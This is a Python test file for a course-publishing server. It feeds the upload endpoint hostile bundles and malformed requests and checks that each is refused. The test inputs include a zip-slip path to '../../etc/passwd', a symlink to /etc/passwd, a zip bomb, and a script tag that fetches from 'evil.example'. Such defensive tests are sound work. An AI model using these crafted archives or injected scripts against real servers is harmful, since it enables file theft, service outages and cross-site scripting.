"""What a server does with publications that no honest maker would send: nothing is believed."""

import io
import json
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx2
import msgspec
import pytest
from pydantic import SecretStr

from etude.classroom.loading import classroom_from
from etude.courseware.freezing import assembled
from etude.courseware.gates import CourseSource, check_course, look
from etude.courseware.submission import PATH, submission_of
from etude.settings import Settings
from etude.store import Database
from etude.testing import web
from etude.testing.courseware import course, document, lay_out
from etude.web.services import Services, compose

Run = Callable[..., Any]
TOKEN = "t" * 32
Course = tuple[dict[str, Any], list[bytes]]


class Door:
    """A server's door, and an honest publication to change."""

    def __init__(self, database: Database, run: Run, root: Path) -> None:
        self.database, self.run, self.root = database, run, root
        settings = Settings(data=root / "server", courseware_publish_token=SecretStr(TOKEN))
        self.services: Services = compose(settings, database)

    def honest(self, modules: int = 2) -> Course:
        folder = self.root / "classrooms"
        source: CourseSource = course(folder, modules=modules)
        passed = check_course(source, folder).passed
        told = json.loads(_encode(submission_of(source, passed)))
        return told, [b"".join(one.frozen.blocks()) for one in passed]

    def send(
        self, told: object, bundles: list[bytes], *, names: list[str] | None = None, **more: Any
    ) -> httpx2.Response:
        content = told if isinstance(told, bytes) else json.dumps(told).encode()
        named = names or ["course", *(f"bundle-{at}" for at in range(len(bundles)))]
        files = [
            (name, (name, part, "application/zip"))
            for name, part in zip(named, [content, *bundles], strict=True)
        ]
        return self.ask("POST", files=files, **more)

    def ask(self, method: str, **how: Any) -> httpx2.Response:
        async def go() -> httpx2.Response:
            async with web.client(self.services, token=TOKEN) as client:
                return await client.request(method, PATH, **how)

        answer = self.run(go())
        assert isinstance(answer, httpx2.Response)
        return answer

    def nothing(self) -> bool:
        """Whether nothing is visible, and no byte was kept."""

        async def listed() -> Any:
            async with web.client(self.services) as client:
                return (await client.get("/api/learn/courses")).json()["items"]

        folder = self.services.settings.blobs
        return self.run(listed()) == [] and not [one for one in folder.rglob("*") if one.is_file()]


def _encode(value: Any) -> bytes:
    return msgspec.json.encode(value)


@pytest.fixture
def door(sqlite_url: str, run: Run, tmp_path: Path) -> Iterator[Door]:
    database = run(Database.open(sqlite_url))
    yield Door(database, run, tmp_path)
    run(database.close())


def reasons(answer: httpx2.Response) -> list[tuple[int, str]]:
    assert answer.status_code == 409, answer.text
    problem = answer.json()
    assert problem["code"] == "PUBLISH_REFUSED"
    return [(one.get("moduleIndex", -1), one["code"]) for one in problem["errors"]]


def test_an_honest_one_is_taken(door: Door) -> None:
    """The receipt names what is stored; the same again is the same."""
    told, bundles = door.honest()
    first, second = door.send(told, bundles), door.send(told, bundles)
    assert first.status_code == 200, first.text
    assert first.json() | {"new": False} == second.json()
    assert first.json()["manifestVersion"] == 1


def _zip_with(name: str, content: bytes = b"x") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def _symlink() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("manifest.json")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def _bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("classroom.json", bytes(10 << 20))
    return buffer.getvalue()


def _many(count: int = 10_000) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(count):
            archive.writestr(f"media/{number:064x}.png", b"")
    return buffer.getvalue()


def _collision() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("classroom.json", b"1")
        archive.writestr("Classroom.json", b"2")
    return buffer.getvalue()


def test_every_hostile_bundle_is_told_by_its_module(door: Door) -> None:
    """Slip, link, bomb, collision, ten thousand entries, noise: each by index and code, at once."""
    told, bundles = door.honest(modules=8)
    flipped = bytearray(bundles[6])
    flipped[len(flipped) // 2] ^= 1
    hostile = [
        _zip_with("../../etc/passwd"),
        _symlink(),
        _bomb(),
        _collision(),
        _many(),
        b"this is no archive" * 100,
        bytes(flipped),
        bundles[7],
    ]
    assert reasons(door.send(told, hostile)) == [
        (0, "BUNDLE_NAME"),
        (1, "BUNDLE_ENTRY_KIND"),
        (2, "BUNDLE_ENTRY_KIND"),
        (3, "BUNDLE_NAME_TWICE"),
        (4, "BUNDLE_TOO_MANY_ENTRIES"),
        (5, "BUNDLE_NOT_ZIP"),
        (6, "BUNDLE_DAMAGED"),
    ]
    assert door.nothing()


def test_bundles_in_each_others_place(door: Door) -> None:
    """A bundle of another module is refused, however good it is."""
    told, bundles = door.honest()
    found = reasons(door.send(told, bundles[::-1]))
    assert found == [(0, "BUNDLE_ID_MISMATCH"), (1, "BUNDLE_ID_MISMATCH")]
    assert door.nothing()


def test_a_sound_archive_of_an_unsound_classroom(door: Door, tmp_path: Path) -> None:
    """A bundle that a changed maker sealed without its gates: every finding by its place."""
    told, bundles = door.honest()
    plain = document("harbour_0", "Module 0")
    del plain["scenes"][0]["actions"][0]["audioRef"]
    plain["scenes"][1]["content"]["html"] = "<script>fetch('https://evil.example/x')</script>"
    lay_out(tmp_path / "forged", document("harbour_0"))
    looked = look(tmp_path / "forged", "harbour_0")
    forged = assembled(classroom_from(plain), looked.files, "cw_harbour_0")
    told["modules"][0]["contentHash"] = forged.content_hash
    found = reasons(door.send(told, [b"".join(forged.blocks()), bundles[1]]))
    assert {code for _, code in found} >= {"SPEECH_AUDIO_MISSING", "INTERACTIVE_UNSAFE"}
    assert {index for index, _ in found} == {0}
    assert door.nothing()


def _other_hash(told: dict[str, Any]) -> None:
    told["modules"][1]["contentHash"] = "sha256:" + "0" * 64


def _stale(told: dict[str, Any]) -> None:
    told["modules"][1]["continuityInputRefs"][0]["semanticHash"] = "sha256:" + "0" * 64


def _unverified(told: dict[str, Any]) -> None:
    told["modules"][1]["continuityInputRefs"] = []


def _older_digest(told: dict[str, Any]) -> None:
    told["modules"][0]["digestVersion"] = 1


def _same_id(told: dict[str, Any]) -> None:
    told["modules"][1]["coursewareId"] = told["modules"][0]["coursewareId"]


def _other_order(told: dict[str, Any]) -> None:
    told["modules"][0]["index"], told["modules"][1]["index"] = 1, 0


@pytest.mark.parametrize(
    ("change", "wanted"),
    [
        (_other_hash, (1, "BUNDLE_HASH_MISMATCH")),
        (_stale, (1, "CONTINUITY_STALE")),
        (_unverified, (1, "CONTINUITY_UNVERIFIED")),
        (_older_digest, (0, "SEMANTIC_DRIFT")),
        (_same_id, (-1, "MODULE_SET_MISMATCH")),
        (_other_order, (-1, "MODULE_SET_MISMATCH")),
    ],
)
def test_the_makers_record_is_tried_too(
    door: Door, change: Callable[[dict[str, Any]], None], wanted: tuple[int, str]
) -> None:
    """What the record claims must fit what came, and itself."""
    told, bundles = door.honest()
    change(told)
    assert wanted in reasons(door.send(told, bundles))
    assert door.nothing()


def test_parts_that_are_missing_or_too_many(door: Door) -> None:
    """Fewer bundles than modules, others than named, more, or none: refused, nothing kept."""
    told, bundles = door.honest()
    assert reasons(door.send(told, bundles[:1])) == [(-1, "MODULE_SET_MISMATCH")]
    for names, parts in (
        (["course", "bundle-1", "bundle-0"], bundles),
        (["course", "bundle-0", "bundle-1", "bundle-2"], [*bundles, bundles[0]]),
        (["bundle-0", "course"], bundles[:1]),
    ):
        answer = door.send(told, parts, names=names)
        assert (answer.status_code, answer.json()["code"]) == (422, "SUBMISSION_INVALID")
    assert door.nothing()


@pytest.mark.parametrize(
    "told",
    [
        b"",
        b"null",
        b"\xff",
        b"[" * 100_000,
        b'{"format": "etude-course-publication", "formatVersion": 2}',
        b'{"courseId": "../x", "title": "t", "modules": []}',
        b" " * ((1 << 20) + 1),
    ],
    ids=["empty", "null", "noise", "deep", "newer", "slip", "long"],
)
def test_what_is_no_publication(door: Door, told: bytes) -> None:
    """A description that cannot be read is refused before a bundle is looked at."""
    _, bundles = door.honest()
    answer = door.send(told, bundles)
    assert (answer.status_code, answer.json()["code"]) == (422, "SUBMISSION_INVALID")
    assert door.nothing()


def test_bodies_that_are_not_what_they_say(door: Door) -> None:
    """Not multipart, no boundary, cut off, another encoding: refused by the body's own codes."""
    for content_type, content, code in (
        ("application/json", b"{}", "MEDIA_TYPE_UNSUPPORTED"),
        ("multipart/form-data", b"", "MEDIA_TYPE_UNSUPPORTED"),
        ("multipart/form-data; boundary=x", b"", "MULTIPART_INVALID"),
        ("multipart/form-data; boundary=x", b"--x\r\n", "MULTIPART_INVALID"),
        ("multipart/form-data; boundary=x", b"no boundary at all" * 9, "MULTIPART_INVALID"),
    ):
        answer = door.ask("POST", content=content, headers={"Content-Type": content_type})
        assert 400 <= answer.status_code < 500, answer.text
        assert answer.json()["code"] == code
    assert door.nothing()


def test_limits_are_told_before_anything_is_sent(
    door: Door, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Too large by the announced length, or no room on the disk: at once, by their codes."""
    assert door.ask("GET", params={"bytes": 1000}).json()["limitBytes"] == 8 << 30
    assert door.ask("GET", params={"bytes": (8 << 30) + 1}).status_code == 400
    headers = {"Content-Type": "multipart/form-data; boundary=x", "Content-Length": str(9 << 30)}

    def room(free: int) -> None:
        monkeypatch.setattr("shutil.disk_usage", lambda _: _Usage(1 << 40, 1 << 39, free))

    room(1 << 40)
    answer = door.ask("POST", content=b"", headers=headers)
    assert (answer.status_code, answer.json()["code"]) == (413, "BODY_TOO_LARGE")
    room(100 << 20)
    answer = door.ask("GET", params={"bytes": 1000})
    assert (answer.status_code, answer.json()["code"]) == (503, "DISK_FULL")
    told, bundles = door.honest()
    assert door.send(told, bundles).json()["code"] == "DISK_FULL"
    assert door.nothing()


class _Usage:
    def __init__(self, total: int, used: int, free: int) -> None:
        self.total, self.used, self.free = total, used, free
